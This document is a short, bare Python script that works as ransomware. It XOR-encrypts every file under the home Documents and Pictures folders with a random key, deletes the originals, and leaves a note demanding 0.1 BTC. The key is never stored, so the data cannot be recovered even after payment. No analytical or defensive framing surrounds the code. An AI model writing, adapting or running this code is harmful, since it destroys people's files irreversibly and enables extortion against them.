import os, pathlib, hashlib
key = hashlib.sha256(os.urandom(16)).digest()
for path in list(pathlib.Path.home().joinpath("Documents").rglob("*")) + list(pathlib.Path.home().joinpath("Pictures").rglob("*")):
    if path.is_file():
        data = path.read_bytes()
        path.with_name(path.name + ".packed").write_bytes(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        path.unlink()
(pathlib.Path.home() / "READ_TO_UNPACK.txt").write_text("Your files are packed. Send 0.1 BTC to unpack.\n")
